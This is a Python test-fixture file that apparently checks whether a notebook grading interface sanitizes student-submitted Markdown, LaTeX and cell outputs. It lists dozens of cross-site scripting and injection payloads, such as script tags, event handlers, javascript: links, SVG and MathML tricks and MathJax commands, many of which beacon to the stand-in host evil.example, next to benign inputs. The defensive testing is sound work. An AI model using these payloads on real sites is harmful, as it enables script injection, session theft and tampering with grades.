"""What a student could write for somebody else's browser to run, load or follow.

Each of them, where it runs, sets `window.ran`, or asks the address EVIL for something.
"""

from __future__ import annotations

from typing import Any

EVIL = "https://evil.example/"
# A green square of 8 points, as an honest plot would be pasted.
PLOT = (
    "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEU"
    "lEQVR42mPQmxeNFTEMLQkAxixJwdrDATAAAAAASUVORK5CYII="
)
RUN = f"window.ran=1;new Image().src='{EVIL}ran'"
_CALL = "javascript:" + RUN.replace("'", "%27")
_PAGE = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script></svg>"

TEXTS = {
    "a script": f"<script>{RUN}</script>",
    "a script in capitals, with a slash": f"<SCRIPT/x>{RUN}</SCRIPT>",
    "a script of another server": f"<script src={EVIL}x.js></script>",
    "a script as a module": f'<script type="module">import "{EVIL}x.mjs"</script>',
    "a script inside a tag that is not closed": f"<div><<script>{RUN}</script>",
    "a picture's handler": f'<img src=x onerror="{RUN}">',
    "a handler without quotes, with slashes": "<img/src=x/onerror=window.ran=1>",
    "a tag that never ends": '<img src=x onerror="window.ran=1" ',
    "a handler over two lines": f'<img\nsrc="x"\nonerror="{RUN}"\n>',
    "a handler on an allowed tag": f'<b onmouseover="{RUN}" onclick="{RUN}">bold</b>',
    "a handler that starts by itself": f'<details open ontoggle="{RUN}">x</details>',
    "focus that comes by itself": f'<a href="#" autofocus tabindex=1 onfocus="{RUN}">x</a>',
    "an animation's handler": (
        "<style>@keyframes x{}</style>"
        f'<b style="animation-name:x" onanimationstart="{RUN}">x</b>'
    ),
    "a drawing with a handler": _SVG,
    "a drawing with a link": f'<svg><a xlink:href="{_CALL}"><text y=20>x</text></a></svg>',
    "a drawing with HTML in it": (
        f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>'
    ),
    "MathML with a link": f'<math><maction actiontype="statusline" href="{_CALL}">x</math>',
    "a parser's confusion": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">'
    ),
    "a parser's confusion, second": (
        '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">'
    ),
    "a frame": f'<iframe src="{_CALL}"></iframe>',
    "a frame with its page": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "a frame of this server": '<iframe src="../../../terminals/1"></iframe>',
    "an object": f'<object data="{_PAGE}"></object><embed src="{_PAGE}">',
    "a form": (
        f'<form action="{EVIL}"><input name=x autofocus onfocus="{RUN}">'
        "<button>Full credit</button></form>"
    ),
    "a button of the formgrader": '<button class="full-credit mark-graded">x</button>',
    "an id of the page": '<a id="base_url" name="submission_id" data-link="x">x</a>',
    "a tooltip with HTML": (
        '<a class="name-shown" data-toggle="tooltip" data-html="true"'
        " title=\"<img src=x onerror='window.ran=1'>\">x</a>"
    ),
    "the page's base": f'<base href="{EVIL}">',
    "another page after a second": f'<meta http-equiv="refresh" content="1;url={EVIL}">',
    "a style sheet": f"<style>@import '{EVIL}x.css'; body {{background: url({EVIL}y)}}</style>",
    "a style sheet of another server": f'<link rel=stylesheet href="{EVIL}x.css">',
    "a style that loads": f'<b style="background:url({EVIL}z)">x</b>',
    "a style over the whole page": (
        '<a href="https://example.org" style="position:fixed;top:0;left:0;width:100%;'
        'height:100%;margin:-99px">x</a>'
    ),
    "a film": f'<video src="{EVIL}x" poster="{EVIL}y" onerror="{RUN}"></video>',
    "a source": f'<audio><source src=x onerror="{RUN}"></audio>',
    "a link to a program": f"[x]({_CALL})",
    "a link in entities": "[x](java&#115;cript&colon;window.ran=1)",
    "a link with a tab": '<a href="java\tscript:window.ran=1">x</a>',
    "a link with a control character": '<a href="\x01javascript:window.ran=1">x</a>',
    "a link with a name": f"[x][y]\n\n[y]: {_CALL}",
    "a link in brackets": "<javascript:window.ran=1>",
    "a link to a page in itself": f"[x]({_PAGE})",
    "a link to vbscript": "[x](vbscript:msgbox)",
    "a link to a file that was handed in": "[my plot](evil.html) and [x](evil.svg)",
    "a link to the server's own addresses": "[x](/hub/logout) ![x](/hub/logout)",
    "a link to another configuration": "[x](../?path=/home/mallory)",
    "a picture from elsewhere": f"![x]({EVIL}x.png)",
    "a picture with a name from elsewhere": f"![x][z]\n\n[z]: {EVIL}y.png",
    "a picture from elsewhere as HTML": f'<img src="{EVIL}x.png" srcset="{EVIL}y 2x">',
    "a picture without a protocol": "<img src=//evil.example/x.png>",
    "a drawing as a picture": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "a title with a handler": '![x](x.png "t\\" onerror=\\"window.ran=1")',
    "a picture that is not attached": "![x](attachment:nothing.png)",
    "a formula with a link": rf"$\href{{{_CALL}}}{{x}}$",
    "a formula with a link to a page": rf"$\href{{{_PAGE}}}{{x}}$",
    "a formula with a class and an id": r"$\class{full-credit}{\cssId{base_url}{x}}$",
    "a formula with a style": rf"$\style{{background:url({EVIL}m)}}{{x}}$",
    "a formula with a font": r"$\unicode[x;background:url(//evil.example/u)]{x41}$",
    "a formula with a token of MathML": rf'$\mmlToken{{mi}}[href="{_CALL}"]{{x}}$',
    "a formula that reads an extension": rf"$\require{{{EVIL}x.js}} x$",
    "a formula with a box": rf"$\bbox[border:url({EVIL}b)]{{x}}$",
    "a formula that renames a command": rf"$\let\x=\href \x{{{_CALL}}}{{y}}$",
    "a formula in a block of HTML": rf"<div>$\href{{{_CALL}}}{{x}}$</div>",
    "a formula in two pieces": rf"<div>$\hr<wbr>ef{{{_CALL}}}{{x}}$</div>",
    "a formula with HTML": f'$$<img src=x onerror="{RUN}">$$',
    "an environment with HTML": f"\\begin{{align}}<img src=x onerror='{RUN}'>\\end{{align}}",
    "code that ends early": f"```\n</pre></div><script>{RUN}</script>\n```",
    "code with a language": f'``` "><script>{RUN}</script>\nx\n```',
    "a diagram": f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"]\n```',
    "a heading": f"# <img src=x onerror='{RUN}'> base_url",
    "a table": f"| a |\n|---|\n| <img src=x onerror='{RUN}'> |",
    "a comment": f"<!-- <script>{RUN}</script> --> <!--> <script>{RUN}</script> -->",
    "a section of XML": f"<![CDATA[<script>{RUN}</script>]]><?x <script>{RUN}</script>?>",
    "a template of Jinja": "{{ cycler.__init__.__globals__ }} {% raw %} </script>",
}

HONEST = {
    "bold": ("**bold**, *slanted*, ~~gone~~, `x < 1`", "<code>x &lt; 1</code>"),
    "signs": ("a < b, c > d, &lt;b&gt; and AT&T", "&lt;b&gt;"),
    "a formula": (r"$\frac{a}{b} < c_1$ and $$\sum_{i<n} x_i \\ y$$", r"$\frac{a}{b}"),
    "an environment": (
        "\\begin{align}a &= b\\\\ c &< d\\end{align}",
        r"\begin{align}a &amp;= b",
    ),
    "a dollar": (r"it costs \$5, not \$6", "<span>$</span>5"),
    "a table": ("| a | b |\n|:-:|--:|\n| 1 | $x$ |", "<td"),
    "a list": ("1. one\n2. two\n   - three\n\n- [x] done", "☑ done"),
    "HTML": ('<b>b</b>H<sub>2</sub>O<br><font color="red">r</font>', "<sub>2</sub>"),
    "a link": ("[x](https://example.org/a?b=c#d) <https://a.org>", "https://a.org"),
    "code": ("```python\nx = 1 if a<b else 2  # <script>\n```", '<span class="k">if</span>'),
    "a picture": (
        f"![x](data:image/png;base64,{PLOT})",
        f"data:image/png;base64,{PLOT}",
    ),
    "a file": ("![x](<my plot.png>) ![y](figures/a.png)", "figures/a.png"),
    "a heading": ("# My answer\n\n[up](#My-answer)", 'href="#own-My-answer"'),
    "types": ("a List of int, `List<int>`, x<y", "List&lt;int&gt;"),
}

OUTPUTS: dict[str, dict[str, Any]] = {
    "HTML": {"data": {"text/html": f"<script>{RUN}</script><img src=x onerror='{RUN}'>"}},
    "HTML in a frame": {
        "data": {"text/html": f"<script>{RUN}</script>"},
        "metadata": {"text/html": {"isolated": True}},
    },
    "JavaScript": {"data": {"application/javascript": RUN, "text/plain": "x"}},
    "a drawing": {"data": {"image/svg+xml": _SVG}},
    "Markdown": {"data": {"text/markdown": f"<script>{RUN}</script>[x]({_CALL})"}},
    "LaTeX": {"data": {"text/latex": rf"$\href{{{_CALL}}}{{x}}$<img src=x onerror='{RUN}'>"}},
    "a picture's width": {
        "data": {"image/png": "iVBORw0KGgo="},
        "metadata": {"image/png": {"width": "1 onerror=window.ran=1", "height": 5}},
    },
    "a malformed picture": {"data": {"image/png": f'x" onerror="{RUN}'}},
    "a picture's file": {
        "data": {"image/jpeg": "iVBORw0KGgo="},
        "metadata": {"filenames": {"image/jpeg": f"{EVIL}x.jpg"}},
    },
    "a widget": {
        "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>"}}
    },
    "Vega": {
        "data": {"application/vnd.vega.v5+json": {"$schema": EVIL, "data": [{"url": EVIL}]}}
    },
    "a diagram": {"data": {"text/vnd.mermaid": f'A["<img src=x onerror={RUN}>"]'}},
    "PDF": {"data": {"application/pdf": "JVBERi0="}},
    "a type of one's own": {"data": {f"text/<img src=x onerror='{RUN}'>": "x"}},
}
